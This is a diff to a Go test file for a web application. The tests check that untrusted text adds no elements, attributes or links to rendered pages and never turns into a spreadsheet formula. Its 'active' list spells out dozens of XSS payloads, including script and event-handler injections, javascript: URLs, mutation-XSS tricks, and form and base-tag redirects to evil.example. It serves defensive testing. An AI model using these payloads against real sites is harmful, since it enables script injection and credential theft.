@@ -49,7 +49,7 @@ func everyPage(t *testing.T, s string) map[string]templ.Component {
 }
 
 // vocabulary adds to words what a page is made of: its elements, their
-// attributes, their classes and the schemes of their links.
+// attributes, their classes, the schemes of their links, and whatever is run.
 func vocabulary(root *html.Node, words map[string]bool) {
 	for n := range root.Descendants() {
 		switch n.Type {
@@ -57,19 +57,35 @@ func vocabulary(root *html.Node, words map[string]bool) {
 			words["<"+n.Namespace+":"+n.Data+">"] = true
 		case html.CommentNode, html.DoctypeNode:
 			words["<!"+n.Data+">"] = true
+		case html.TextNode:
+			if n.Parent.Data == "script" || n.Parent.Data == "style" {
+				words["<"+n.Parent.Data+">"+n.Data] = true
+			}
 		}
 		for _, a := range n.Attr {
 			words["<"+n.Data+" "+a.Namespace+":"+a.Key+">"] = true
+			if runs(a.Key) {
+				words["<"+n.Data+" "+a.Key+"="+a.Val+">"] = true
+			}
 			switch a.Key {
 			case "class", "rel", "type", "method", "http-equiv", "target", "role":
 				for w := range strings.FieldsSeq(a.Val) {
 					words["<"+n.Data+" "+a.Key+"="+w+">"] = true
 				}
-			case "href", "src", "action", "formaction":
+			case "href", "src", "action", "formaction", printed:
 				words["<"+n.Data+" "+a.Key+"="+kind(a.Val)+">"] = true
 			}
 		}
 	}
+}
+
+// printed is the attribute with the address that stands beside a link on paper.
+const printed = "data-print"
+
+// runs reports whether what an attribute holds is run, or drawn by, rather than
+// shown: all of it counts as markup.
+func runs(attribute string) bool {
+	return strings.HasPrefix(attribute, "data-") && attribute != printed || strings.HasPrefix(attribute, "on") || attribute == "style"
 }
 
 // kind returns of what kind a link is: the web's, a place on this server or on
@@ -94,12 +110,12 @@ func kind(link string) string {
 // harmless: no element, attribute, class or kind of link comes in by it.
 func TestForeignTextAddsNothingToAnyPage(t *testing.T) {
 	known := map[string]bool{}
-	for _, s := range []string{"word", "two words", "", " ", "https://x.example/a", "http://x.example/", "https://x.example", "library://books/a", "word\n\nword", "4", "2026-01-02", "none", "covered"} {
+	for _, s := range []string{"word", "two words", "", " ", "https://www.x.org/a", "http://x.org/", "https://x.org", "https://x.example/a", "library://books/a", "word\n\nword", "4", "2026-01-02", "none", "covered"} {
 		for _, page := range everyPage(t, s) {
 			vocabulary(drawn(t, page), known)
 		}
 	}
-	strings := slices.Concat(active, hostile, everyOf(corpus(t), 24))
+	strings := slices.Concat(active, hostile, everyOf(collected(t), 48))
 	kinds, drawings := map[string]bool{}, 0
 	for i, s := range strings {
 		pages := everyPage(t, s)
@@ -155,8 +171,8 @@ func everyOf(all []string, n int) (some []string) {
 var active = []string{
 	`" onmouseover="alert(1)" x="`, `' autofocus onfocus=alert(1) '`, "` onload=alert(1)", `"><script>alert(1)</script>`, `</title><script>alert(1)</script>`, `</textarea><img src=x onerror=alert(1)>`,
 	`</script><script>alert(1)</script>`, `--><svg onload=alert(1)>`, `]]><svg onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
-	`<a href="javascript&colon;alert(1)">x</a>`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", `javascript://x.example/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
-	`https://x.example/" onclick="alert(1)`, `https://x.example/'><script>alert(1)</script>`, `https://x.example\@evil.example/`, `//evil.example/x`, `/\evil.example`, `https:evil.example`, `http:///x`, `blob:https://x.example/1`, `view-source:https://x.example/`,
+	`<a href="javascript&colon;alert(1)">x</a>`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", `javascript://x.org/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`,
+	`https://x.org/" onclick="alert(1)`, `https://x.org/'><script>alert(1)</script>`, `https://x.org\@evil.example/`, `//evil.example/x`, `/\evil.example`, `https:evil.example`, `http:///x`, `blob:https://x.org/1`, `view-source:https://x.org/`,
 	`<div data-on-load="alert(1)">`, `" data-on-load="alert(1)`, `" data-init="alert(1)`, `" data-on:click="alert(1)`, `<div data-signals="{x: alert(1)}">`, `')alert(1)//`, `',{x:alert(1)})//`, `\');alert(1)//`, `${alert(1)}`, `{{constructor.constructor('alert(1)')()}}`,
 	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import 'https://evil.example/x.css'</style>`, `<form action=https://evil.example/><input name=password>`,
 	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template shadowrootmode=open><slot onslotchange=alert(1)>`, `<x is=x onclick=alert(1)>`, `<img/src/onerror=alert(1)>`, `<!doctype html><html><body onload=alert(1)>`,
@@ -168,7 +184,7 @@ var active = []string{
 // spreadsheet separates cells.
 func TestForeignTextIsNoFormula(t *testing.T) {
 	cells := 0
-	for _, s := range slices.Concat(active, hostile, everyOf(corpus(t), 24)) {
+	for _, s := range slices.Concat(active, hostile, everyOf(collected(t), 48)) {
 		states := []*research.State{tale(t, s)}
 		for _, method := range toldMethods {
 			states = append(states, every(t, method, s).state)
